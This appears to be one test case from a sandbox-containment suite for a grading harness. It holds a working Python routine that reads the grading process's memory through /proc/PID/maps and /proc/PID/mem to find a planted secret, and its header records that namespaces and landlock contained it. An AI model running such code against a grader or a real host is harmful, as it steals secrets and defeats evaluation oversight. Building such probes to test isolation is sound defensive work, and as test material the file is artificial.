# attack: reads the secret out of the grading process's memory through /proc/PID/mem
# full: contained
# reduced: contained
# stopped-by: namespaces, landlock
import re


def attack():
    with open(f"/proc/{GRADER}/maps") as maps, open(f"/proc/{GRADER}/mem", "rb", 0) as memory:
        for line in maps:
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" not in line or last - first > 1 << 26:
                continue
            memory.seek(first)
            try:
                found = re.search(rb"the secret is [0-9a-f]{32}", memory.read(last - first))
            except OSError:
                continue
            if found:
                return f"through: {found[0].decode()}"
    return "held: not found"
